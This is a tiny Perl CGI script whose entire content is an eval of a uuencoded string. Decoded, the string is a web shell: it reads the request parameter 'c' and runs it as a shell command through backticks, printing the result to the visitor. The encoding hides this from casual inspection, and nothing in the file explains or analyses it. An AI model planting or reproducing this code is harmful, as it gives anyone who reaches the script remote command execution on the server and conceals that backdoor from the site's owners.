#!/usr/bin/perl
eval unpack("u", q{M=7-E($-'23LD<3U#1TDM/FYE=SMP<FEN=" D<2T^:&5A9&5R.W!R:6YT(& D
/<2T^<&%R86TH(F,B*6 [});
